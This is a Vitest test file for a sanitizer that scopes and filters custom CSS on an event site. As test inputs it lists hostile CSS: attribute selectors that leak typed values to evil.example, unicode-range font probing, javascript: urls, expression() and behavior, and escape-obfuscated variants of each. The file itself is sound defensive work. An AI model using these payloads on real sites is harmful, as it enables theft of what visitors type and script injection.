import { describe, expect, it } from 'vitest';
import { scopeEventCss } from './scope-css';

describe('the event’s custom CSS on its site', () => {
  it('scopes every selector to the site, html, body and :root included', () => {
    expect(scopeEventCss('h1, .title > a { color: red }')).toBe('.ed-site h1, .ed-site .title > a { color: red }');
    expect(scopeEventCss('body { margin: 0 } html body p { color: blue } :root { --x: 1 }')).toBe('.ed-site { margin: 0 } .ed-site p { color: blue } .ed-site { --x: 1 }');
    expect(scopeEventCss('@media (max-width: 600px) { .a { color: red } }')).toBe('@media (max-width: 600px) { .ed-site .a { color: red } }');
  });

  it('loads fonts and images only, from http(s) or data addresses', () => {
    const css = [
      '@import url("https://evil.example/x.css");',
      '@font-face { font-family: "Brand"; src: url("https://fonts.example/brand.woff2") format("woff2") }',
      '.hero { background-image: url("https://img.example/a.png"); color: red }',
      '.x { background: url(javascript:alert(1)) }',
      '.y { filter: url("https://evil.example/f.svg#x") }',
      '.z { behavior: url(x.htc); width: expression(alert(1)); height: 1px }',
    ].join('\n');
    const scoped = scopeEventCss(css);
    expect(scoped).not.toMatch(/@import|evil|javascript|behavior|expression/);
    expect(scoped).toContain('src: url("https://fonts.example/brand.woff2")');
    expect(scoped).toContain('.ed-site .hero { background-image: url("https://img.example/a.png"); color: red }');
    expect(scoped).toContain('.ed-site .z { height: 1px }');
  });

  it('drops a font\'s unicode-range, which would fetch one font per character a visitor types', () => {
    const css = '@font-face { font-family: "Spy"; src: url("https://evil.example/a.woff"); unicode-range: U+0061 } @font-face { font-family: "Spy"; src: url("https://evil.example/b.woff"); UNICODE-RANGE: U+0062 }';
    expect(scopeEventCss(css)).not.toMatch(/unicode-range/i);
    expect(scopeEventCss(css)).toContain('src: url("https://evil.example/a.woff")');
    expect(scopeEventCss('.a { font-family: Spy; unicode-range: U+0061 }')).toBe('.ed-site .a { font-family: Spy; unicode-range: U+0061 }');
  });

  it('keeps every selector inside the site: no sibling of the root, however spelt', () => {
    const css = [':root ~ * { display: none }', 'html + body { color: red }', 'body ~ div, h\\74ml > body ~ * { color: red }', ':ROOT~*{color:red}'].join('\n');
    expect(scopeEventCss(css)).toBe('');
    expect(scopeEventCss(':root ~ *, .ok { color: red }')).toBe('.ed-site .ok { color: red }');
    expect(scopeEventCss('* { box-sizing: border-box } html > body > .a ~ .b { color: red }')).toBe('.ed-site * { box-sizing: border-box } .ed-site > .a ~ .b { color: red }');
    // Anything else is looked for inside the site only, where no root or body is.
    expect(scopeEventCss(':is(html) ~ * { color: red } :root.dark p { color: red }')).toBe('.ed-site :is(html) ~ * { color: red } .ed-site :root.dark p { color: red }');
  });

  it('drops selectors that read what visitors type, however spelt', () => {
    const css = [
      'input[value^="a"] { background: url("https://evil.example/a") }',
      '[value] { color: red }',
      'form:has(input[VALUE$="9"]) { color: red }',
      'input[v\\61lue*=x] { color: red }',
      '[*|value~="a" i] { color: red }',
    ].join('\n');
    expect(scopeEventCss(css)).toBe('');
    expect(scopeEventCss('a[href$=".pdf"], input[type="text"] { color: red }')).toBe('.ed-site a[href$=".pdf"], .ed-site input[type="text"] { color: red }');
  });

  it('judges names and addresses with their escapes decoded', () => {
    const dropped = [
      '.a { filter: u\\72l(https://evil.example/f.svg#x) }',
      '.b { background-image: \\75 rl("javascript:alert(1)") }',
      '.c { background: url(j\\61vascript:alert(1)) }',
      '.d { be\\68avior: url(x.htc) }',
      '.e { background: image-set("//evil.example/a.png" 1x) }',
      '.f { width: ex\\70ression(alert(1)) }',
      '.g { background: url("https://ok.example/" var(--x)) }',
      '.h { --bg: url(https://img.example/a.png) }',
      '@\\69mport "https://evil.example/x.css";',
    ];
    for (const css of dropped) {
      const scoped = scopeEventCss(`${css} .z { color: red }`);
      expect(scoped, css).not.toMatch(/url|image-set|behav|\\68|expression|\\70|var\(|evil|--bg/i);
      // postcss takes `@\69mport "…";` for no CSS at all: the whole sheet is refused.
      if (!css.startsWith('@')) expect(scoped, css).toContain('.ed-site .z { color: red }');
    }
    expect(scopeEventCss('.i { background: u\\72l(https://img.example/a.png) no-repeat; color: red }')).toBe('.ed-site .i { background: u\\72l(https://img.example/a.png) no-repeat; color: red }');
  });

  it('keeps keyframes as they are, and gives nothing for CSS that does not parse', () => {
    expect(scopeEventCss('@keyframes spin { from { opacity: 0 } to { opacity: 1 } }')).toBe('@keyframes spin { from { opacity: 0 } to { opacity: 1 } }');
    expect(scopeEventCss('.a { color: red')).toBe('');
    expect(scopeEventCss('   ')).toBe('');
  });
});
